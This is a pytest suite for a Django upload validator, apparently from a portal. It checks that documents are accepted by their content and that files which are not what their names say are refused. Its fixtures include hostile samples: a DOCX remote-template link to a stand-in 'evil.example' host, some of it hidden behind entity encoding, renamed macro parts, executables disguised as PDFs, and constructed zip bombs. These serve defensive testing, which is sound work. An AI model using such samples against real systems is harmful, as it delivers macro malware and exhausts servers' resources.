"""Uploaded documents: accepted by their content, whatever their name says."""

import io
import struct
import tracemalloc
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from portal.uploads import office
from portal.uploads.documents import UploadRules, document_check, upload_check
from portal.uploads.pictures import PictureRules
from tests.support.files import EXE, PDF, archive, code_of, picture, word97

PICTURES = PictureRules(max_pixels=1_000_000, longest_side=200)
RULES = UploadRules(
    extensions=["pdf", "doc", "docx", "xlsx", "odt", "rtf", "txt"], pictures=PICTURES
)
TYPES = "[Content_Types].xml"
DOCX = archive(TYPES, "word/document.xml")


def check(name: str, content: bytes) -> str:
    return document_check(SimpleUploadedFile(name, content), RULES)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("Договор.PDF", PDF),
        ("scan.pdf", b"\r\n" + PDF),
        ("a.docx", DOCX),
        ("a.xlsx", archive(TYPES, "xl/workbook.xml")),
        ("a.odt", archive("mimetype", "content.xml")),
        ("a.rtf", b"{\\rtf1 text}"),
        ("a.txt", "Прошу проверить счётчик.\r\n\tПсков".encode()),
        ("a.txt", "Прошу проверить счётчик".encode("cp1251")),
        ("a.txt", b"\xef\xbb\xbftext"),
    ],
)
def test_documents_are_accepted_by_their_content(name, content):
    assert check(name, content) == name.rpartition(".")[2].lower()


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.exe", EXE, "extension"),
        ("a.pdf.exe", PDF, "extension"),
        ("a", PDF, "no_extension"),
        ("a.pdf", EXE + PDF, "content"),
        ("a.pdf", DOCX, "content"),
        ("a.docx", b"", "empty"),
        ("a.docx", b"PK\x03\x04nonsense", "content"),
        ("a.docx", DOCX[: len(DOCX) // 2], "content"),
        ("a.docx", archive("word/document.xml"), "content"),
        ("a.docx", archive(TYPES, "xl/workbook.xml"), "content"),
        ("a.docx", archive(TYPES, "word/document.xml", "word/vbaProject.bin"), "macros"),
        ("a.odt", archive("content.xml", "Basic/Standard/Module1.xml"), "macros"),
        ("a.rtf", b"text", "content"),
        ("a.txt", b"a\0b", "content"),
        ("a.txt", b"a" * 5000 + b"\x07", "content"),
        ("a.txt", b"\x98", "content"),
        ("a.txt", "текст".encode("utf-16"), "content"),
        ("a.txt", PDF, "content"),
    ],
)
def test_documents_that_are_not_what_their_name_says_are_refused(name, content, code):
    assert code_of(check, name, content) == code


def test_damaged_office_files_are_refused_or_accepted():
    for at in range(len(DOCX)):
        try:
            check("a.docx", DOCX[:at] + bytes([DOCX[at] ^ 0xFF]) + DOCX[at + 1 :])
        except ValidationError:
            continue


def test_a_document_of_word_97_is_read_by_its_streams():
    assert check("a.doc", word97()) == "doc"
    refused = [
        (word97("Macros"), "macros"),
        (word97("VBA"), "macros"),
        (word97(streams=("Workbook",)), "content"),
        (word97()[:700], "content"),
        (word97()[:8] + bytes(600), "content"),
        (DOCX, "content"),
        (b"{\\rtf1}", "content"),
    ]
    for content, code in refused:
        assert code_of(check, "a.doc", content) == code, content[:20]


def test_damaged_documents_of_word_97_are_refused_or_accepted():
    """Among them heads that claim millions of sectors, and chains that bite their own tail."""
    whole = word97("Data")
    for at in [*range(24, 90), *range(512, 540), *range(1024, len(whole), 7)]:
        for byte in (0, 1, 0x7F, 0xFF):
            try:
                check("a.doc", whole[:at] + bytes([byte]) + whole[at + 1 :])
            except ValidationError:
                continue


@pytest.mark.parametrize(
    "members",
    [
        {
            TYPES: b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        },
        {TYPES: b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'},
        {
            TYPES: b"<x/>",
            "word/_rels/settings.xml.rels": b'<Relationship Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm"/>',
        },
        # As Office reads it, and a search for bytes does not.
        {TYPES: '<Default ContentType="application/vnd.ms-office.vbaProject"/>'.encode("utf-16")},
        {
            TYPES: b"<x/>",
            "word/_rels/More.XML.Rels": b'<Relationship Id=">" Type="http://x/attached&#84;emplate" '
            b'Target="&#104;ttps://evil.example/a.dotm"/>',
        },
    ],
)
def test_a_docx_whose_macros_have_another_name_is_refused(members):
    assert code_of(check, "a.docx", archive("word/document.xml", **members)) == "macros"


def test_a_docx_with_a_template_of_its_writers_disk_is_accepted():
    rels = b'<Relationship Type="http://x/attachedTemplate" Target="file:///C:/Normal.dotm"/>'
    parts = {"word/_rels/settings.xml.rels": rels}
    assert check("a.docx", archive(TYPES, "word/document.xml", **parts)) == "docx"


def test_office_files_have_a_limit_of_their_unpacked_size(monkeypatch):
    monkeypatch.setattr(office, "MAX_UNPACKED_BYTES", 1_000_000)
    bomb = archive(TYPES, "word/document.xml", big=bytes(1_000_001))
    assert len(bomb) < 3_000
    assert code_of(check, "a.docx", bomb) == "bomb"


def very_many_members(kind: str) -> bytes:
    """A document of 180 000 empty members; `kind`: where it says that there are few."""
    member = b"PK\x01\x02" + bytes(24) + (1).to_bytes(2, "little") + bytes(16) + b"x"
    table = member * 180_000
    size, at = len(table), len(DOCX)
    small = size if kind == "plain" else 47
    place = int.from_bytes(b"PK\x05\x06", "little") if kind == "second end" else at
    end64 = b"PK\x06\x06" + struct.pack("<QHHLLQQQQ", 44, 45, 45, 0, 0, 180_000, 180_000, size, at)
    where64 = b"PK\x06\x07" + struct.pack("<LQL", 0, at + size, 1)
    count = min(180_000, 0xFFFF)
    if kind == "second end":
        small = size
    end = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, count, count, small, place, 0)
    return DOCX + table + (end64 + where64 if kind == "zip64" else b"") + end


@pytest.mark.parametrize("kind", ["plain", "zip64", "second end"])
def test_a_zip_of_very_many_members_is_refused_unread(kind):
    content = very_many_members(kind)
    with zipfile.ZipFile(io.BytesIO(content)) as whole:
        assert len(whole.infolist()) == 180_000
    tracemalloc.start()
    assert code_of(check, "a.docx", content) == "bomb"
    assert tracemalloc.get_traced_memory()[1] < len(content) + 10_000_000
    tracemalloc.stop()


def test_documents_have_a_limit_of_bytes():
    rules = UploadRules(extensions=["txt"], max_bytes=3)
    assert code_of(document_check, SimpleUploadedFile("a.txt", b"abcd"), rules) == "too_large"


def test_an_attachment_is_a_document_as_it_is_or_a_picture_drawn_anew():
    taken = upload_check(SimpleUploadedFile("a.pdf", PDF), RULES)
    assert (taken.extension, taken.content.read()) == ("pdf", PDF)
    drawn = upload_check(SimpleUploadedFile("IMG_0001", picture((400, 300))), RULES)
    assert drawn.extension == "jpg" and drawn.content.read().startswith(b"\xff\xd8")
    for name, content, code in [
        ("a.png", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "not_a_picture"),
        ("a.jpeg", b"", "empty"),
        ("a.txt", b"", "empty"),
        ("a.svg", b"<svg/>", "extension"),
    ]:
        assert code_of(upload_check, SimpleUploadedFile(name, content), RULES) == code
    without = UploadRules(extensions=["pdf"])
    assert code_of(upload_check, SimpleUploadedFile("a.png", picture()), without) == "extension"
